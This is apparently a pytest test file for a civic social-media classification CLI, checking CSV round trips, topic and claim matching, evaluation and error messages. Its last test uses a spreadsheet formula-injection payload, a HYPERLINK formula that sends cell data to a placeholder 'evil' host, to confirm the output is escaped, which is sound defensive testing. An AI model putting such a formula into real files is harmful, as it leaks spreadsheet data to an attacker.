"""civicradar classify / match-claims / evaluate, round trip through CSV files (tiny random models)."""

from __future__ import annotations

import argparse
import json
from pathlib import Path

import pandas as pd
import pytest

from classifiers import cli

SETTINGS = """
[[classifiers.topics]]
name = "roads"
description = "Potholes, road works and closures"
keywords = ["pothole"]

[[classifiers.topics]]
name = "parks"
description = "Parks and playgrounds"
examples = ["The playground is closed"]
"""


@pytest.fixture
def models(tiny_models_dir: Path) -> Path:
    return tiny_models_dir  # built once per session (conftest)


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    posts = pd.DataFrame({
        "post_id": ["p1", "p2", "p3", "p4"],
        "body": ["Huge pothole on Elm St", "Le parc est fermé aujourd'hui pour travaux", "😡😡", ""],
        "platform": ["x", "rss", "x", "x"],
    })
    claims = pd.DataFrame({"claim_id": ["c1", "c2"], "title": ["5G", "Bridge"],
                           "claim": ["5G spreads the virus", "The bridge will close"], "rating": ["false", ""]})
    paths = {"posts": tmp_path / "posts.csv", "claims": tmp_path / "claims.csv", "settings": tmp_path / "s.toml"}
    posts.to_csv(paths["posts"], index=False)
    claims.to_csv(paths["claims"], index=False)
    paths["settings"].write_text(SETTINGS)
    return paths


def run(argv: list[str]) -> int:
    return cli.main(argv)


def test_add_commands_registers_three_subcommands() -> None:
    parser = argparse.ArgumentParser()
    cli.add_commands(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["classify", "--input", "a.csv", "--output", "b.csv"])
    assert args.func is cli.run_classify and args.text_column == "text"
    assert parser.parse_args(["match-claims", "--claims", "c", "--input", "i", "--output", "o"]).top == 5
    assert parser.parse_args(["evaluate", "--task", "topic", "--input", "x"]).func is cli.run_evaluate


def test_classify_round_trip_keeps_input_columns(models: Path, files: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    code = run(["classify", "--input", str(files["posts"]), "--output", str(out), "--text-column", "body",
                "--settings", str(files["settings"]), "--claims", str(files["claims"]),
                "--claim-text-columns", "title,claim", "--models-dir", str(models)])
    assert code == 0
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert list(frame.columns) == ["post_id", "body", "platform", *cli.OUTPUT_COLUMNS]
    assert frame["post_id"].tolist() == ["p1", "p2", "p3", "p4"] and frame["body"][3] == ""
    assert frame["lang"].tolist() == ["en", "fr", "", ""]
    assert frame["sentiment"][0] in {"negative", "neutral", "positive"} and frame["sentiment"][1] == ""
    assert frame["sentiment"][2] != "" and frame["misinfo_score"][2] == ""  # emoji-only
    assert "roads" in json.loads(frame["topics"][0]) and frame["topics"][1] == ""
    assert frame["matched_claim_id"][0] in {"c1", "c2"} and 0 <= float(frame["misinfo_score"][0]) <= 1


def test_classify_without_topics_or_claims(models: Path, files: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert run(["classify", "--input", str(files["posts"]), "--output", str(out), "--text-column", "body",
                "--models-dir", str(models)]) == 0
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert (frame["topics"] == "").all() and (frame["matched_claim_id"] == "").all()


def test_missing_column_is_a_clear_error(models: Path, files: dict[str, Path], tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    code = run(["classify", "--input", str(files["posts"]), "--output", str(tmp_path / "o.csv"),
                "--models-dir", str(models)])
    assert code == 2 and "no column text" in capsys.readouterr().err


def test_missing_models_is_a_clear_error(files: dict[str, Path], tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    code = run(["classify", "--input", str(files["posts"]), "--output", str(tmp_path / "o.csv"),
                "--text-column", "body", "--models-dir", str(tmp_path / "nowhere")])
    assert code == 2 and "python training/export_encoder.py" in capsys.readouterr().err


def test_match_claims_writes_ranked_rows(models: Path, files: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "m.csv"
    code = run(["match-claims", "--claims", str(files["claims"]), "--input", str(files["posts"]),
                "--output", str(out), "--top", "2", "--id-column", "post_id", "--text-column", "body",
                "--claim-text-columns", "claim", "--models-dir", str(models)])
    assert code == 0
    frame = pd.read_csv(out)
    assert list(frame.columns) == ["query_id", "rank", "claim_id", "score"]
    assert len(frame) == 8 and frame.groupby("query_id")["rank"].apply(list).tolist() == [[1, 2]] * 4
    assert set(frame["claim_id"]) == {"c1", "c2"}


def test_evaluate_every_task(models: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "e.csv"
    pd.DataFrame({"text": ["I love it", "I hate it", "It is Monday"], "label": [2, 0, 1],
                  "target": ["atheism", "hillary", "climate"], "vclaim_ids": ["c1", "c2", "c1;c2"]}).to_csv(
        data, index=False)
    claims = tmp_path / "c.csv"
    pd.DataFrame({"claim_id": ["c1", "c2"], "text": ["love", "hate"]}).to_csv(claims, index=False)
    for task in ["sentiment", "misinfo", "claims", "topic"]:
        extra = ["--claims", str(claims)] if task == "claims" else []
        label = ["--label-column", "label"] if task in {"sentiment", "misinfo"} else []
        if task == "misinfo":
            pd.read_csv(data).assign(label=["real", "fake", "real"]).to_csv(data, index=False)
        assert run(["evaluate", "--task", task, "--input", str(data), "--models-dir", str(models),
                    *extra, *label]) == 0
        report = json.loads(capsys.readouterr().out)
        assert report["task"] == task and report["n"] == 3 and "models" in report
    assert 0 <= report["macro_f1"] <= 1


def test_classify_output_is_formula_safe(models: Path, tmp_path: Path) -> None:
    """Posts are public text: one that starts a formula stays text in a spreadsheet, a lone CR stays in its cell."""
    posts = tmp_path / "formula.csv"
    pd.DataFrame({"text": ['=HYPERLINK("http://evil/?"&A1,"x")', "hi\r+1+1", "-5"]}).to_csv(posts, index=False,
                                                                                   lineterminator="\r\n")
    out = tmp_path / "out.csv"
    assert run(["classify", "--input", str(posts), "--output", str(out), "--models-dir", str(models)]) == 0
    raw = out.read_bytes()
    assert raw.endswith(b"\r\n") and b'"hi\r+1+1"' in raw
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert frame["text"].tolist() == ['\'=HYPERLINK("http://evil/?"&A1,"x")', "hi\r+1+1", "-5"]
